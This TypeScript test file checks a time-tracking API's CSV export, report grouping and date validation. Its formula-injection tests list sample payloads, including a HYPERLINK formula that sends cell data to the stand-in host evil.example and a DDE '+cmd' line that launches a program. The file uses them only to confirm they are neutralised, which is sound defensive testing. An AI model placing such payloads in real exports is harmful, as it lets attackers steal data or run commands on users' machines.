import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { toCsv } from '../../shared/api/csv';
import { DATE_MAX, DATE_MIN } from '../../shared/domain/fields';
import { err, fields, workspaceWithKey } from '../resources/support';
import { apiClient, useTestTable } from '../support/harness';

/**
 * Issue 22 items 5-7: CSV cells are never live formulas (OWASP CSV injection, parsed back with csv-parse);
 * no id a client may send collides with the rollups' "none" marker; every date the API accepts works in
 * the report (property test across the accepted range), the others are a 400.
 */
useTestTable();
const api = apiClient();
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\tTAB', '\rCR'];

describe('CSV formula injection (item 5)', () => {
  test('the one CSV writer prefixes text cells that start a formula with a quote; numbers (negative ones too) stay numbers; RFC 4180 quoting holds', () => {
    const text = toCsv([['text', 'number'], ...FORMULAS.map((f, i) => [f, -i - 1.5]), ['plain, with "quotes"', 0], ['-', -0.25]]);
    const rows = parse(text, { columns: true, relax_column_count: false }) as Array<{ text: string; number: string }>;
    expect(rows.map((r) => r.text)).toEqual([...FORMULAS.map((f) => `'${f}`), 'plain, with "quotes"', "'-"]);
    expect(rows.map((r) => Number(r.number))).toEqual([...FORMULAS.map((_, i) => -i - 1.5), 0, -0.25]);
    expect(rows.every((r) => /^-?\d/.test(r.number))).toBe(true);
  });

  test('a client named like a formula comes out of the summary CSV and the time-entry CSV neutralised', async () => {
    const { key } = await workspaceWithKey('csv-inj');
    const made: Array<{ id: string; name: string }> = [];
    for (const name of FORMULAS.filter((f) => !/^[\t\r]/.test(f))) {
      const res = await api.post('/v1/clients', { name }, { key });
      expect(res.status).toBe(201);
      made.push(res.body);
      const entry = await api.post('/v1/time-entries', { userId: '=u', name, clientId: res.body.id, startTime: '2026-03-02T09:00:00Z', endTime: '2026-03-02T10:00:00Z' }, { key });
      expect(entry.status).toBe(201);
    }
    const csv = await api.get('/v1/reports/summary', { key, query: { startDate: '2026-03-01', endDate: '2026-03-31', groupBy: 'client' }, headers: { Accept: 'text/csv' } });
    expect(csv.status).toBe(200);
    const rows = parse(csv.text, { columns: true }) as Array<Record<string, string>>;
    const names = rows.filter((r) => r.level === 'group').map((r) => r.clientName);
    expect(names.sort()).toEqual(made.map((c) => `'${c.name}`).sort());
    for (const r of rows) for (const cell of Object.values(r)) expect({ cell, live: /^[=+@\t\r]/.test(cell) || /^-(?!\d)/.test(cell) }).toEqual({ cell, live: false });
    const list = await api.get('/v1/time-entries', { key, query: { userId: '=u' }, headers: { Accept: 'text/csv' } });
    const entries = parse(list.text, { columns: true }) as Array<Record<string, string>>;
    expect(entries.map((e) => e.userId)).toEqual(Array(made.length).fill("'=u"));
    expect(entries.map((e) => e.name).sort()).toEqual(made.map((c) => `'${c.name}`).sort());
    expect(entries.every((e) => e.durationMinutes === '60')).toBe(true);
  });
});

describe('the rollups\u2019 "none" marker (item 6)', () => {
  test('a time entry of userId "-" is reported under "-", not under the null group, and userId=- finds it', async () => {
    const { key } = await workspaceWithKey('marker');
    const project = (await api.post('/v1/projects', { name: 'P' }, { key })).body;
    await api.post('/v1/time-entries', { userId: '-', projectId: project.id, startTime: '2026-03-02T09:00:00Z', endTime: '2026-03-02T10:00:00Z' }, { key });
    await api.post('/v1/time-entries', { userId: 'u', startTime: '2026-03-03T09:00:00Z', endTime: '2026-03-03T09:30:00Z' }, { key });
    const period = { startDate: '2026-03-01', endDate: '2026-03-31' };
    const byUser = (await api.get('/v1/reports/summary', { key, query: { ...period, groupBy: 'user' } })).body;
    expect(byUser.groups.map((g: { key: string | null; entries: number }) => [g.key, g.entries]).sort()).toEqual([
      ['-', 1],
      ['u', 1],
    ]);
    const one = (await api.get('/v1/reports/summary', { key, query: { ...period, userId: '-' } })).body;
    expect(one.totals).toEqual(expect.objectContaining({ entries: 1, durationMinutes: 60 }));
    const byProject = (await api.get('/v1/reports/summary', { key, query: { ...period, groupBy: 'project', userId: '-' } })).body;
    expect(byProject.groups.map((g: { key: string | null; entries: number }) => [g.key, g.entries])).toEqual([[project.id, 1]]);
    // and every dimension: a project filter with the user marker as user, two dimensions at once (X items)
    const pair = (await api.get('/v1/reports/summary', { key, query: { ...period, groupBy: 'user,project' } })).body;
    expect(pair.groups.find((g: { key: string | null }) => g.key === '-')?.groups.map((s: { key: string | null }) => s.key)).toEqual([project.id]);
    expect(pair.groups.find((g: { key: string | null }) => g.key === null)).toBeUndefined();
    expect((await api.get('/v1/time-entries', { key, query: { userId: '-' } })).body.items).toHaveLength(1);
  });
});

describe('dates (item 7)', () => {
  test('years 0000-0099 and past 9998 are a 400 naming the field in every route taking a date; the report never answers 500', async () => {
    const { key } = await workspaceWithKey('dates-out');
    const cases: Array<[string, string, Record<string, unknown> | undefined, Record<string, string> | undefined, string]> = [
      ['GET', '/v1/reports/summary', undefined, { startDate: '0050-01-01', endDate: '0050-01-31' }, 'startDate'],
      ['GET', '/v1/reports/summary', undefined, { startDate: '0099-12-01T00:00:00Z', endDate: '0099-12-31' }, 'startDate'],
      ['GET', '/v1/reports/summary', undefined, { startDate: '9999-12-01', endDate: '9999-12-31' }, 'endDate'],
      ['GET', '/v1/time-entries', undefined, { startDate: '0001-01-01' }, 'startDate'],
      ['POST', '/v1/time-entries', { userId: 'u', startTime: '0050-06-01T00:00:00Z' }, undefined, 'startTime'],
      ['POST', '/v1/time-entries', { userId: 'u', startTime: '1969-12-31T23:59:59Z' }, undefined, 'startTime'],
      ['POST', '/v1/time-entries', { userId: 'u', startTime: '2026-01-01T00:00:00Z', endTime: '9999-12-31T23:59:59Z' }, undefined, 'endTime'],
      ['GET', '/v1/invoices', undefined, { startDate: '0000-01-01' }, 'startDate'],
      ['GET', '/v1/changes', undefined, { since: '0010-01-01T00:00:00Z' }, 'since'],
    ];
    for (const [method, path, body, query, field] of cases) {
      const res = await api.call(method as 'GET', path, { key, ...(body ? { body } : {}), ...(query ? { query } : {}) });
      expect({ path, query, body, status: res.status, fields: fields(res) }).toEqual({ path, query, body, status: 400, fields: expect.arrayContaining([field]) });
      expect(err(res).message).toMatch(/1970-01-01 and 9998-12-31|ISO 8601/);
    }
  });

  test('entries at both ends of the accepted range are written, listed and reported', async () => {
    const { key } = await workspaceWithKey('dates-edges');
    for (const [start, end] of [
      [`${DATE_MIN}T00:00:00Z`, `${DATE_MIN}T01:00:00Z`],
      [`${DATE_MAX}T22:00:00Z`, `${DATE_MAX}T23:59:59.999Z`],
    ] as const) {
      const res = await api.post('/v1/time-entries', { userId: 'edge', startTime: start, endTime: end }, { key });
      expect([start, res.status]).toEqual([start, 201]);
    }
    expect((await api.get('/v1/time-entries', { key, query: { userId: 'edge' } })).body.items).toHaveLength(2);
    for (const [startDate, endDate, tz] of [
      [DATE_MIN, '1970-12-31', 'Pacific/Kiritimati'],
      [DATE_MIN, '1970-01-31', 'America/Adak'],
      ['9998-01-01', DATE_MAX, 'Pacific/Kiritimati'],
      ['9998-12-01', DATE_MAX, 'Pacific/Pago_Pago'],
    ] as const) {
      for (const groupBy of ['day', 'week', 'month', 'user']) {
        const res = await api.get('/v1/reports/summary', { key, query: { startDate, endDate, timeZone: tz, groupBy } });
        expect({ startDate, tz, groupBy, status: res.status }).toEqual({ startDate, tz, groupBy, status: 200 });
      }
    }
    const utc = await api.get('/v1/reports/summary', { key, query: { startDate: '9998-12-31', endDate: DATE_MAX } });
    expect(utc.body.totals).toEqual(expect.objectContaining({ entries: 1 }));
  });

  test('property: any period within the accepted range, any grouping and time zone, answers 200 (never 500)', async () => {
    const { key } = await workspaceWithKey('dates-prop');
    const lo = Date.parse(`${DATE_MIN}T00:00:00Z`);
    const hi = Date.parse(`${DATE_MAX}T00:00:00Z`);
    const day = 86_400_000;
    const zones = ['UTC', 'Pacific/Kiritimati', 'Pacific/Pago_Pago', 'Europe/Berlin', 'America/St_Johns', 'Asia/Kathmandu', 'Australia/Lord_Howe'];
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 0, max: Math.floor((hi - lo) / day) }),
        fc.integer({ min: 0, max: 1094 }), // within the 1096-day bound whatever the time zone
        fc.constantFrom(...zones),
        fc.constantFrom('day', 'week', 'month', 'user', 'project,day', undefined),
        fc.boolean(),
        async (startDay, length, timeZone, groupBy, instants) => {
          const start = lo + startDay * day;
          const end = Math.min(hi, start + length * day);
          const date = (t: number) => new Date(t).toISOString().slice(0, 10);
          const startDate = instants ? new Date(start + 3_600_000).toISOString() : date(start);
          const endDate = date(end);
          const res = await api.get('/v1/reports/summary', { key, query: { startDate, endDate, timeZone, ...(groupBy ? { groupBy } : {}) } });
          expect({ startDate, endDate, timeZone, groupBy, status: res.status, body: res.status === 200 ? undefined : res.body }).toEqual({
            startDate,
            endDate,
            timeZone,
            groupBy,
            status: 200,
            body: undefined,
          });
        },
      ),
      { numRuns: 60, seed: 22 },
    );
  });
});
